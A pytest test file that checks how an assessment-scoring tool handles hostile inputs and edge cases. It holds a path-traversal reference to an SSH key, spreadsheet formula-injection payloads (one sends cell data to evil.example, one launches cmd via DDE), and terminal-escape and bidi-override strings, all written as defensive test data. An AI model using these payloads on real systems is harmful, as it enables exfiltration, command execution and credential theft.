"""Issue 14: hostile and awkward inputs. Each test is built from the example of one bullet
(the bad input files themselves, where a bullet is about one, are in tests/cases/invalid)."""

from __future__ import annotations

import csv
import io
import json
import marshal
import os
import shutil
from pathlib import Path

import pytest

from gapcheck.formats import checklist as checklists
from gapcheck.formats.assessment import validate_file
from gapcheck.output.batch import MANIFEST
from gapcheck.output.cells import safe_cell

from .conftest import MINI, ROOT

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ"
ANSWERS = "answers:\n  age: {status: partial, evidence: [{instrument: PC}]}\n"


def _assessment(folder: Path, name: str = "a.yaml", *, country: str = "Freedonia", **top: str):
    folder.mkdir(parents=True, exist_ok=True)
    if not (folder / "mini.yaml").exists():
        shutil.copy(MINI, folder / "mini.yaml")
    head = {"checklist": "mini.yaml", "country": json.dumps({"name": country}), **top}
    head.setdefault("as_of", '"2026-03-01"')
    path = folder / name
    path.write_text("".join(f"{k}: {v}\n" for k, v in head.items()) + ANSWERS, "utf-8")
    return path


# ------------------------------------------------------------------------------ security


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_a_checklist_outside_the_folder_is_refused_unread(run, tmp_path, fmt, monkeypatch):
    secret = tmp_path / "home" / ".ssh" / "id_ed25519"
    secret.parent.mkdir(parents=True)
    secret.write_text(SECRET + "\n", "utf-8")
    work = tmp_path / "work"
    path = _assessment(work, checklist="../home/.ssh/id_ed25519")
    from gapcheck.formats import loader

    opened: list[Path] = []
    real = loader.read_regular
    monkeypatch.setattr(loader, "read_regular", lambda p, n: opened.append(Path(p)) or real(p, n))
    result = run("validate", "--format", fmt, str(path))
    assert result.exit_code == 1
    assert "BEGIN" not in result.output and "b3Bl" not in result.output
    assert "is not read" in result.output and "--checklist" in result.output
    assert secret not in opened and all(p.name != "id_ed25519" for p in opened)


def test_a_link_in_the_folder_to_a_file_outside_is_refused(run, tmp_path):
    outside = tmp_path / "secret.yaml"
    outside.write_text(SECRET, "utf-8")
    work = tmp_path / "work"
    path = _assessment(work, checklist="linked.yaml")
    (work / "linked.yaml").symlink_to(outside)
    result = run("validate", str(path))
    assert result.exit_code == 1 and "is not read" in result.output and "BEGIN" not in result.output


def test_checklist_named_on_the_command_line_may_be_anywhere(run, tmp_path):
    path = _assessment(tmp_path / "work", checklist=str(MINI))
    assert run("validate", str(path)).exit_code == 1
    assert run("validate", "--checklist", str(MINI), str(path)).exit_code == 0
    assert run("score", "--checklist", str(MINI), str(path)).exit_code == 0


def test_a_message_quotes_only_a_short_escaped_excerpt(run, tmp_path):
    path = _assessment(tmp_path, language=json.dumps("x" * 500 + SECRET))
    result = run("validate", str(path))
    (line,) = [x for x in result.output.splitlines() if "language" in x]
    assert len(line) < len(str(path)) + 200 and "…" in line and "BEGIN" not in line


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("formula", [*FORMULAS, "+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_safe_cell_neutralises_formulas_and_keeps_numbers(formula):
    cell = safe_cell(formula)
    assert isinstance(cell, str) and cell.startswith("'")
    assert safe_cell(-2.5) == -2.5 and safe_cell(3) == 3 and safe_cell("Freedonia") == "Freedonia"


@pytest.mark.parametrize("formula", FORMULAS)
def test_score_and_compare_csv_cells_cannot_run(run, tmp_path, formula):
    a = _assessment(tmp_path, "a.yaml", country=formula)
    b = _assessment(tmp_path, "=cmd.yaml", country="Arcadia")
    for args in (("score", "--format", "csv", str(a)), ("compare", str(a), str(b))):
        result = run(*args)
        assert result.exit_code == 0, result.output
        rows = list(csv.reader(io.StringIO(result.stdout_bytes[3:].decode("utf-8"))))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert "'" + formula in cells
    items = run("compare", "--view", "items", str(a), str(b))
    assert items.exit_code == 0


TERMINAL = "Evil\x1b]0;owned\x07\x1b[2J\rname\u202e"


def test_nothing_printed_drives_the_terminal(run, tmp_path):
    # a valid file may hold a carriage return and U+202E; ESC and OSC only an invalid one
    shown = "Evil\rhidden\u202e State"
    a = _assessment(tmp_path, country=shown, reviewer=json.dumps(shown))
    bad = _assessment(tmp_path, "b.yaml", country=TERMINAL, checklist=json.dumps(TERMINAL))
    outputs = [
        run("score", str(a)).output,
        run("score", "--format", "json", str(a)).output,
        run("validate", str(bad)).output,
        run("validate", "--format", "json", str(bad)).output,
        run("diff", str(a), str(a)).output,
    ]
    for out in outputs:
        assert not set(out) & {"\x1b", "\x07", "\r", "\u202e"}, out
    assert "Evil\\u000dhidden\\u202e State" in outputs[0]
    assert "\\u001b]0;owned" in outputs[2]
    json.loads(outputs[1])  # the escapes keep JSON valid


def test_invisible_and_look_alike_ids_are_shown_escaped(run, write):
    path = write("answers:\n  art\u200bage: {status: no}\n  \u0430ttempt: {status: no}\n")
    out = run("validate", str(path)).output
    assert "unknown item id 'art\\u200bage'" in out and "'\\u0430ttempt'" in out


RLO = "Evil\u202e State"


@pytest.mark.parametrize("kind", ["report", "diff", "comparison", "worksheet"])
def test_a_right_to_left_override_is_isolated_in_every_page(tmp_path, kind):
    from gapcheck.analysis import compare
    from gapcheck.analysis.diff import compare as diff
    from gapcheck.output import html as render
    from gapcheck.pages.bidi import FSI, PDF, PDI

    a = validate_file(_assessment(tmp_path, country=RLO)).assessment
    assert a is not None
    if kind == "report":
        html = render.render_reports(a, ["html"]).outputs["html"].decode()
    elif kind == "diff":
        html = render.render_diff(diff(a, a), "a.yaml", "b.yaml")
    elif kind == "comparison":
        m = compare.build([("a.yaml", a)])
        html = render.render_comparison(m, ["html"])["html"].decode()
    else:
        from dataclasses import replace

        cl = replace(a.checklist, title="Checklist \u202eRLO")
        html = render.render_worksheet(cl, ["html"])["html"].decode()
    title = html.split("<title>")[1].split("</title>")[0]
    # every override is closed (PDF) inside an isolate (FSI…PDI) that ends before our words
    assert "\u202e" in (html if kind == "comparison" else title)  # (no State in that title)
    for text in (title, html):
        for k in [i for i, ch in enumerate(text) if ch == "\u202e"]:
            opened = text.rfind(FSI, 0, k)
            closed = text.find(PDI, k)
            assert opened != -1 and closed != -1, text[max(0, k - 40) : k + 40]
            assert text.find(PDF, k) < closed


def test_an_edited_cache_entry_is_not_trusted(run, tmp_path, tmp_path_factory):
    path = _assessment(tmp_path)
    before = run("score", "--format", "json", str(path)).output
    cache = tmp_path_factory.getbasetemp() / "cache" / "gapcheck"
    entries = list(cache.glob(f"checklist-*{checklists.CACHE_SUFFIX}"))
    assert entries
    checklists._cached.cache_clear()
    edited = 0
    for entry in entries:
        sealed = entry.read_bytes()
        data = checklists.unseal(sealed)
        if data.get("id") == "mini":
            data["items"][0]["weight"] = -5
            data["items"][1]["title"] = "Edited"
            head = sealed.index(b"\n", sealed.index(b"\n") + 1) + 1  # magic line, hash line
            entry.write_bytes(sealed[:head] + marshal.dumps(data))  # its hash left as it was
            edited += 1
    assert edited
    after = run("score", "--format", "json", str(path))
    assert after.exit_code == 0 and after.output == before


# ------------------------------------------------------------------------------ crashes


def test_a_worker_exception_becomes_that_files_error(tmp_path, monkeypatch):
    from datetime import date

    from gapcheck.output import batch, html

    monkeypatch.setattr(html, "render_reports", lambda *a, **k: 1 / 0)
    path = _assessment(tmp_path / "in")
    out = tmp_path / "out"
    task = batch.ReportTask(out, ("html",), date(2026, 1, 1))
    outcome = batch.report_one(str(path), task)
    assert outcome.errors and "internal error (ZeroDivisionError" in outcome.errors[0]
    assert not out.exists() or list(out.iterdir()) == []


def test_a_batch_with_a_number_tag_reports_the_others(run, tmp_path):
    folder = tmp_path / "in"
    _assessment(folder, "a.yaml", country="Arcadia")
    _assessment(folder, "b.yaml", country="Bosnoria", summary="!!int abc")
    (folder / "mini.yaml").unlink()
    for p in folder.glob("*.yaml"):
        p.write_text(p.read_text("utf-8").replace("mini.yaml", str(MINI)), "utf-8")
    out = tmp_path / "out"
    args = ("report", "-j", "2", "--format", "html", "--checklist", str(MINI), "-o", str(out))
    result = run(*args, str(folder))
    assert result.exit_code == 1
    assert "b.yaml:3:10: error: 'abc' is not a whole number" in result.output
    assert sorted(p.name for p in out.iterdir()) == [MANIFEST, "arcadia-mini.html"]


def test_text_validate_accepts_makes_a_pdf(tmp_path):
    from gapcheck.output.html import render_reports

    path = _assessment(tmp_path, summary="Line one\u2028Line two\u0085Line three")
    a = validate_file(path).assessment
    assert a is not None and a.summary == "Line one\nLine two\nLine three"
    assert render_reports(a, ["pdf"]).outputs["pdf"].startswith(b"%PDF")


@pytest.mark.parametrize("weight", [".nan", ".inf", "-.inf", "1e999"])
def test_weights_must_be_finite(run, tmp_path, weight):
    text = MINI.read_text("utf-8").replace(
        "obligation: mandatory", f"obligation: mandatory\n    weight: {weight}", 1
    )
    cl = tmp_path / "c.yaml"
    cl.write_text(text, "utf-8")
    result = run("checklist", "lint", str(cl))
    assert result.exit_code == 1 and "weight: expected a finite number" in result.output
    path = _assessment(tmp_path, checklist="c.yaml")
    score = run("score", "--format", "json", "--fail-under", "90", str(path))
    assert score.exit_code == 1 and "NaN" not in score.output


def test_non_utf8_file_names_in_compare_and_diff(run, tmp_path):
    a = _assessment(tmp_path, "a.yaml")
    latin1 = tmp_path / os.fsdecode(b"C\xf4te.yaml")
    shutil.copy(a, latin1)
    for args in (
        ("diff", str(a), str(latin1)),
        ("diff", "--format", "json", str(a), str(latin1)),
        ("compare", str(a), str(latin1)),
    ):
        result = run(*args)
        assert result.exit_code == 0, result.output
        assert "C\ufffdte.yaml" in result.stdout_bytes.decode("utf-8")
    out = tmp_path / "d.html"
    assert run("diff", "--format", "html", "-o", str(out), str(a), str(latin1)).exit_code == 0
    assert "C\ufffdte.yaml" in out.read_text("utf-8")


def test_a_folder_where_a_report_should_go(run, tmp_path):
    path = _assessment(tmp_path / "in")
    out = tmp_path / "out"
    (out / "freedonia-mini.html").mkdir(parents=True)
    result = run("report", "--format", "html", "-o", str(out), str(path))
    assert result.exit_code == 1 and "would replace a folder" in result.output
    assert "Traceback" not in result.output
    assert sorted(p.name for p in out.iterdir()) == ["freedonia-mini.html"]


def test_init_output_named_like_its_schema(run, tmp_path):
    out = tmp_path / "opsc.schema.json"
    result = run("init", "--country", "X", "-o", str(out))
    assert result.exit_code == 2 and "name of the schema" in result.output
    assert not out.exists()
    (tmp_path / "opsc.schema.json").mkdir()
    result = run("init", "--country", "X", "-o", str(tmp_path / "x.yaml"))
    assert result.exit_code == 1 and "cannot write the schema" in result.output
    assert "Traceback" not in result.output and (tmp_path / "x.yaml").is_file()


# ------------------------------------------------------------------- hangs and losses


@pytest.mark.parametrize("which", ["fifo", "stdin"])
def test_a_fifo_is_refused_without_waiting(run, tmp_path, which):
    if which == "fifo":
        target = tmp_path / "pipe.yaml"
        os.mkfifo(target)
    else:
        target = Path("/dev/stdin")
    result = run("validate", str(target))
    assert result.exit_code == 2 and f"{target}:0:0: error: is not a regular file" in result.output
    path = _assessment(tmp_path / "w", checklist=json.dumps(str(target)))
    result = run("validate", "--checklist", str(target), str(path))
    assert result.exit_code == 1 and "not a regular file" in result.output


def test_folder_expansion_says_what_it_skipped(run, tmp_path):
    folder = tmp_path / "in"
    _assessment(folder, "a.yaml")
    (folder / "mini.yaml").unlink()
    (folder / "a.yaml").write_text(
        (folder / "a.yaml").read_text("utf-8").replace("mini.yaml", "opsc"), "utf-8"
    )
    (folder / "dangling.yaml").symlink_to(folder / "nowhere.yaml")
    (folder / "loop.yaml").symlink_to(folder / "loop.yaml")
    result = run("validate", str(folder))
    assert result.exit_code == 2
    assert f"{folder / 'dangling.yaml'}: skipped: a link to nothing" in result.output
    assert f"{folder / 'loop.yaml'}: skipped: a link to nothing" in result.output
    assert f"{folder / 'a.yaml'}: 1 error(s)" in result.output  # read, and checked


def test_an_unreadable_folder_is_reported(run, tmp_path, monkeypatch):
    folder = tmp_path / "in"
    _assessment(folder, "a.yaml")
    locked = folder / "locked"
    locked.mkdir()
    locked.chmod(0)
    # root reads any folder (CI runs as root): the folder then refuses as it would anyone else
    real_scandir = os.scandir

    def scandir(path="."):
        if os.fspath(path) == str(locked):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    try:
        result = run("validate", str(folder))
    finally:
        locked.chmod(0o755)
    assert result.exit_code == 2 and "skipped: folder cannot be read" in result.output


@pytest.mark.parametrize("command", ["diff", "compare"])
def test_compare_and_diff_never_write_over_a_checklist_or_an_existing_file(run, tmp_path, command):
    a = _assessment(tmp_path, "a.yaml")
    checklist = tmp_path / "mini.yaml"
    before = checklist.read_bytes()
    args = [command, str(a), str(a)] + (["--format", "csv"] if command == "compare" else [])
    result = run(*args, "-o", str(checklist), "--force")
    assert result.exit_code == 2 and "would replace the input" in result.output
    assert checklist.read_bytes() == before
    out = tmp_path / "out.txt"
    out.write_text("mine", "utf-8")
    assert run(*args, "-o", str(out)).exit_code == 1 and out.read_text("utf-8") == "mine"
    assert run(*args, "-o", str(out), "--force").exit_code == 0
    assert out.read_text("utf-8") != "mine"


@pytest.mark.parametrize("signal_name", ["SIGINT", "SIGTERM"])
def test_an_interrupted_batch_leaves_nothing_behind(tmp_path, signal_name):
    import signal
    import subprocess
    import sys
    import time

    folder = tmp_path / "in"
    folder.mkdir()
    sample = (ROOT / "sample_assessments" / "veridia.yaml").read_text("utf-8")
    for k in range(16):
        (folder / f"v{k}.yaml").write_text(sample.replace("Veridia", f"Veridia {k}"), "utf-8")
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    code = "import sys; from gapcheck.cli import main; sys.argv[0] = 'gapcheck'; main()"
    proc = subprocess.Popen(
        [
            sys.executable,
            "-c",
            code,
            "report",
            "-q",
            "-j",
            "2",
            "--format",
            "pdf",
            "-o",
            str(out),
            str(folder),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        start_new_session=True,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (out.exists() and list(out.glob(".gapcheck-*"))):
        time.sleep(0.05)
    sig = getattr(signal, signal_name)
    # Ctrl-C reaches the whole process group; SIGTERM (a CI job cancelled) the parent
    if sig == signal.SIGINT:
        os.killpg(proc.pid, sig)
    else:
        proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == (130 if sig == signal.SIGINT else 143), err
    assert b"Traceback" not in err and b"leaked" not in err, err
    made = list(out.iterdir()) if out.exists() else []
    assert len(made) < 16  # interrupted before the end
    leftovers = [p.name for p in made if p.name.startswith(".gapcheck-") and p.name != MANIFEST]
    assert leftovers == []


def test_states_named_in_other_scripts_get_distinct_reports(run, tmp_path):
    folder = tmp_path / "in"
    egypt = _assessment(folder, "egypt.yaml", country="مصر")
    jordan = _assessment(folder, "jordan.yaml", country="الأردن")
    coded = _assessment(folder, "coded.yaml", country="Ελλάδα")
    coded.write_text(
        coded.read_text("utf-8").replace('"Ελλάδα"}', '"Ελλάδα", "code": "GR"}'), "utf-8"
    )
    out = tmp_path / "out"
    for path in (egypt, jordan, coded):
        result = run("report", "--format", "html", "-o", str(out), str(path))
        assert result.exit_code == 0, result.output
    names = sorted(p.name for p in out.iterdir() if p.name != MANIFEST)
    assert names == ["ellada-mini.html", "l-rdn-mini.html", "msr-mini.html"]
    # another State whose name gives the same file name is not written over without --force
    other = _assessment(folder, "other.yaml", country="مسر")
    before = (out / "msr-mini.html").read_bytes()
    result = run("report", "--format", "html", "-o", str(out), str(other))
    assert result.exit_code == 1 and "another State; --force replaces it" in result.output
    assert (out / "msr-mini.html").read_bytes() == before
    assert run("report", "--format", "html", "--force", "-o", str(out), str(other)).exit_code == 0
    assert (out / "msr-mini.html").read_bytes() != before
    # the same State again is replaced as before
    assert run("report", "--format", "html", "-o", str(out), str(jordan)).exit_code == 0


def test_a_long_valid_name_can_be_written(tmp_path):
    from gapcheck.output.files import write_atomic

    target = tmp_path / ("r" * 250 + ".html")  # 255 bytes: the longest a name may be
    write_atomic(target, b"x", overwrite=False)
    assert target.read_bytes() == b"x" and [p.name for p in tmp_path.iterdir()] == [target.name]


# ------------------------------------------------------------------------ limits, scale


def test_validate_is_linear_in_checklist_size():
    """Not a timing (that is `make bench`): each item is looked up without rebuilding the
    index, which made validation quadratic."""
    cl = checklists.get(str(MINI))
    assert cl._by_id is cl._by_id


def test_long_unbroken_words_stay_on_the_page(tmp_path):
    from weasyprint import HTML

    from gapcheck.analysis import scoring
    from gapcheck.output import html as render
    from gapcheck.pages import report
    from gapcheck.pages.i18n import choose_locale, translations

    word = "https://example.org/case?" + "x" * 180
    path = _assessment(tmp_path, summary=json.dumps(f"See {word}"))
    path.write_text(
        path.read_text("utf-8").replace(
            "{instrument: PC}", f'{{instrument: "{word}", excerpt: "{word}"}}'
        ),
        "utf-8",
    )
    a = validate_file(path).assessment
    assert a is not None
    locale, _ = choose_locale("en")
    context = report.build(
        a, scoring.score(a.checklist, a.statuses()), locale=locale, translations=translations("en")
    )
    document = HTML(
        string=render.render_html(context), base_url=render.TEMPLATES_DIR.as_uri() + "/"
    ).render()

    def boxes(box):
        yield box
        for child in getattr(box, "children", None) or []:
            yield from boxes(child)

    for page in document.pages:
        for box in boxes(page._page_box):
            if type(box).__name__ == "TextBox":
                assert box.position_x + box.width <= page.width + 0.5, box.text[:40]


# ------------------------------------------------------------------------------ messages


def test_report_prints_the_warnings_before_writing(run, write, tmp_path):
    path = write("answers:\n  age:\n    status: no\n    note: forgotten text\n")
    result = run("report", "--format", "html", "-o", str(tmp_path / "out"), str(path))
    assert result.exit_code == 0
    lines = result.output.splitlines()
    warning = f"{path}:7:5: warning: answers.age.note: unknown key 'note' is ignored; did you mean 'notes'?"
    assert lines.index(warning) < next(i for i, x in enumerate(lines) if x.startswith("Wrote"))
